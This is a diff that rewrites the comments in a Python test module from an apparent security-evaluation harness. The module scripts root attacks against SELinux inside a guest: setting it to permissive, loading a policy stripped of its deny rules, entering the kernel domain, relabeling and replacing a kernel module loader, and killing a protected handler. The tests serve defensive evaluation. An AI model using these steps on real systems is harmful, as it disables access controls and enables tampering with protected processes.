@@ -1,9 +1,9 @@
 # SPDX-License-Identifier: GPL-2.0-only
-"""Attacks on a rival's policy itself: what root may do to switch SELinux off, or to step aside.
+"""Attacks on a rival's policy: root switches SELinux off, or leaves its domain.
 
-Each ends in an attack of the corpus, which must get through afterwards. `baseline` is the control,
-where there is nothing to switch off: that shows the second half. That the first half does what
-it should where it is allowed, a permissive guest shows (tests/system/test_selinux.py).
+Each of them ends in an attack of the corpus, which must succeed afterwards. The control is
+`baseline`, where there is no SELinux: it shows that the second half works. A permissive guest
+shows that the first half works where it is allowed (tests/system/test_selinux.py).
 """
 
 from __future__ import annotations
@@ -41,11 +41,11 @@ RULES = "/tmp/rules"  # noqa: S108 - the guest's, not ours
 LABEL_MAX = 256
 MNT_DETACH = 2
 COMPILING = 600.0
-"""Seconds that an attack may take which compiles Debian's policy, on a busy host."""
+"""How many seconds an attack may take that compiles Debian's policy on a busy host."""
 _DENIAL = re.compile(r"^\((?:deny|neverallow) .*\n", re.MULTILINE)
-"""All that ours takes from the policy that it is built on stands in lines of its own."""
+"""The rules by which our policy restricts the one that it is built on, each on its own line."""
 
-_ASLEEP = asleep(SELINUX, "no SELinux is active")
+_ASLEEP = asleep(SELINUX, "SELinux is not active")
 
 _switch = partial(
     scenario,
@@ -59,35 +59,35 @@ _switch = partial(
 
 
 def is_awake(attacker: Attacker) -> bool:
-    """Whether there is an SELinux to switch off."""
+    """Whether SELinux is active."""
     return "selinux" in attacker.listdir("/sys/fs")
 
 
 def label_of(attacker: Attacker, path: str) -> bytes:
-    """A file's label, as setxattr(2) takes it."""
+    """Return a file's label in the form that setxattr(2) takes."""
     label = bytearray(LABEL_MAX)
     size = attacker.syscall("getxattr", path, LABEL, label, LABEL_MAX)
     return bytes(label[:size])
 
 
 def set_enforcing(attacker: Attacker) -> None:
-    """Have SELinux only say what it would refuse."""
+    """Switch SELinux to permissive mode, in which it only logs denials."""
     attacker.write_file(f"{SELINUXFS}/enforce", b"0")
 
 
 def load_policy_of_all(attacker: Attacker) -> None:
-    """Load the policy that ours is built on, in which root may do everything."""
+    """Load our policy without its restrictions, so that root may do everything."""
     load_policy(attacker, lambda rules: _DENIAL.sub("", rules))
 
 
 def load_permissive_root(attacker: Attacker) -> None:
-    """Load our policy, and root's domain exempt from it: one line more."""
+    """Load our policy with one more line that makes root's domain permissive."""
     domain = attacker.read_file("/proc/self/attr/current").decode().split(":")[2].rstrip("\0")
     load_policy(attacker, lambda rules: rules, more=f"(typepermissive {domain})\n")
 
 
 def load_policy(attacker: Attacker, edit: Callable[[str], str], *, more: str = "") -> None:
-    """Compile what the guest's policy is made of, edited, and have the kernel take it."""
+    """Edit the sources of the guest's policy, compile them and load the result into the kernel."""
     is_debian = "selinux" in attacker.listdir("/etc")
     with TemporaryDirectory() as scratch:
         sources = [Path(scratch) / "added.cil"]
@@ -104,18 +104,18 @@ def load_policy(attacker: Attacker, edit: Callable[[str], str], *, more: str = "
     with attacker.open(RULES, O_RDONLY) as file:
         place = attacker.syscall("mmap", 0, len(rules), PROT_READ, MAP_PRIVATE, file.fd, 0)
     with attacker.open(f"{SELINUXFS}/load", O_WRONLY) as load:
-        attacker.syscall("write", load.fd, place, len(rules))  # it takes a policy in one piece
+        attacker.syscall("write", load.fd, place, len(rules))  # takes a policy in one write only
 
 
 def enter_kernel_domain(attacker: Attacker) -> None:
-    """Become what the kernel's threads are."""
+    """Enter the domain of the kernel's threads."""
     domain = attacker.read_file(KERNEL)
     attacker.write_file("/proc/thread-self/attr/current", domain)
 
 
 @_switch()
 def selinux_setenforce(attacker: Attacker, handler: Handler) -> None:
-    """Switch enforcement off (setenforce 0), then overwrite the handler's state."""
+    """Switch SELinux to permissive (setenforce 0), then overwrite the handler's state."""
     if is_awake(attacker):
         set_enforcing(attacker)
     proc_mem_write(attacker, handler)
@@ -123,7 +123,7 @@ def selinux_setenforce(attacker: Attacker, handler: Handler) -> None:
 
 @_switch(seconds=COMPILING)
 def selinux_load_policy(attacker: Attacker, handler: Handler) -> None:
-    """Load a policy that forbids root nothing, then overwrite the handler's state."""
+    """Load a policy that denies root nothing, then overwrite the handler's state."""
     if is_awake(attacker):
         load_policy_of_all(attacker)
     proc_mem_write(attacker, handler)
@@ -131,7 +131,7 @@ def selinux_load_policy(attacker: Attacker, handler: Handler) -> None:
 
 @_switch(seconds=COMPILING)
 def selinux_permissive_root(attacker: Attacker, handler: Handler) -> None:
-    """Load the same policy with root's domain exempt, then overwrite the handler's state."""
+    """Load the policy with root's domain permissive, then overwrite the handler's state."""
     if is_awake(attacker):
         load_permissive_root(attacker)
     proc_mem_write(attacker, handler)
@@ -139,7 +139,7 @@ def selinux_permissive_root(attacker: Attacker, handler: Handler) -> None:
 
 @_switch()
 def selinux_setcon(attacker: Attacker, handler: Handler) -> None:
-    """Enter the kernel's own domain (setcon), then overwrite the handler's state."""
+    """Enter the kernel's domain (setcon), then overwrite the handler's state."""
     if is_awake(attacker):
         enter_kernel_domain(attacker)
     proc_mem_write(attacker, handler)
@@ -147,7 +147,7 @@ def selinux_setcon(attacker: Attacker, handler: Handler) -> None:
 
 @_switch(effect=Effect.AVAILABILITY, reach="security_task_kill")
 def selinux_setexeccon(attacker: Attacker, handler: Handler) -> None:
-    """Execute a program in the kernel's own domain (runcon), and have it kill the handler."""
+    """Execute a program in the kernel's domain (runcon). It sends SIGKILL to the handler."""
     if is_awake(attacker):
         attacker.write_file("/proc/thread-self/attr/exec", attacker.read_file(KERNEL))
     attacker.run("/bin/busybox", "kill", "-9", str(handler.pid))
@@ -156,7 +156,7 @@ def selinux_setexeccon(attacker: Attacker, handler: Handler) -> None:
 
 @_switch(whole_kernel=True, reach="security_kernel_read_file", target="start")
 def selinux_relabel(attacker: Attacker, handler: Handler) -> None:
-    """Give the loader the label of root's own files (chcon), then replace it."""
+    """Give the loader the label of root's files (chcon), then replace the loader."""
     if is_awake(attacker):
         label = label_of(attacker, "/tmp")  # noqa: S108 - the guest's, not ours
         path = f"/lib/modules/{handler.loader}.ko"
@@ -166,7 +166,7 @@ def selinux_relabel(attacker: Attacker, handler: Handler) -> None:
 
 @_switch(effect=Effect.AVAILABILITY, reach=None, through="proc_dointvec_minmax", target="start")
 def selinux_context_mount(attacker: Attacker, handler: Handler) -> None:
-    """Mount /proc once more, with the label of root's own files, and allow no more threads."""
+    """Mount another /proc with the label of root's files, then lower kernel.threads-max."""
     options = ""
     with attacker.setup():
         attacker.mkdir(PROC)
@@ -182,19 +182,19 @@ def selinux_context_mount(attacker: Attacker, handler: Handler) -> None:
     control="selinux",
     reach="avc_denied",
     target="system",
-    not_applicable={**_ASLEEP, "baseline": "no SELinux is active"},
+    not_applicable={**_ASLEEP, "baseline": "SELinux is not active"},
 )
 def selinux_other_knobs(attacker: Attacker, handler: Handler) -> None:
-    """Try what else switched SELinux off once: its other files, and taking its mount away."""
+    """Write to older knobs of selinuxfs and unmount it, then overwrite the handler's state."""
     for name in ("checkreqprot", "disable", "commit_pending_bools", "user"):
         _try(attacker, f"{SELINUXFS}/{name}")
-    attacker.syscall("umount2", SELINUXFS, MNT_DETACH)  # systemd has files of it open
+    attacker.syscall("umount2", SELINUXFS, MNT_DETACH)  # systemd has files in it open
     handler.restart()
     proc_mem_write(attacker, handler)
 
 
 def _try(attacker: Attacker, path: str) -> None:
-    """Write to a file that may not be there, or that refuses."""
+    """Write to a file, and ignore a missing file or a refusal."""
     try:
         attacker.write_file(path, b"1")
     except GuestError:
